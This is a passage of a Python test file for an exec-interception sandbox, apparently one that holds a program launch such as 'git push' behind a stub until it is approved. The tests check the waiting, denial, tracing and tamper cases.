        transcript = redirected(shell).holds(held).records("exec_redirected")
        transcript.next()
        transcript.yields(Replace(), reply=Restarted())
        transcript.next()
    shell.asks_for("ls").records(
        "exec_denied", reason="max_execs: 2 programs were started, which is the limit"
    )


# The stub


STUB = Prepared("sigwrap-stub", ("sigwrap-stub", "/usr/bin/git", "git", "push"), readable=True)


def prepares_stub(shell: Shell, reply: Prepared | Unpreparable = STUB) -> Transcript:
    shell.process.stub_of = ""
    transcript = shell.asks_for(program("git", "push")).reads(("content",))
    assert isinstance(transcript.next(True), WouldWait)
    return transcript.yields(PrepareStub(), reply=reply)


def test_an_exec_that_would_wait_goes_on_as_the_stub(shell: Shell) -> None:
    transcript = prepares_stub(shell).holds().records("exec_waiting")
    assert transcript.payload == {"path": "/usr/bin/git", "rule_name": "ask-push"}
    transcript.yields(Replace(), reply=Restarted())
    transcript.yields(VerifyThenContinue(is_replacement=True), reply=Ran()).ends()
    assert shell.process.stub_of == "bash"


def test_an_exec_that_would_not_wait_is_asked_about_at_once(shell: Shell) -> None:
    shell.process.stub_of = ""
    transcript = shell.asks_for(program("git", "push")).reads(("content",))
    assert isinstance(transcript.next(False), WouldWait)
    assert isinstance(transcript.next(), Ask)


def test_where_there_can_be_no_stub_the_caller_waits(shell: Shell) -> None:
    assert isinstance(prepares_stub(shell, Unpreparable("it has no room")).next(), Ask)


def test_a_caller_that_is_traced_meanwhile_becomes_no_stub(shell: Shell) -> None:
    prepares_stub(shell).holds(Held.BY_ITS_TRACER).records("exec_denied")


@pytest.mark.parametrize("came_back", [KernelRefused(errno.E2BIG), Tampered()])
def test_a_stub_that_does_not_run_is_none(shell: Shell, came_back: object) -> None:
    transcript = prepares_stub(shell).holds().records("exec_waiting")
    transcript.yields(Replace(), reply=came_back).records("exec_failed")
    assert not shell.process.stub_of
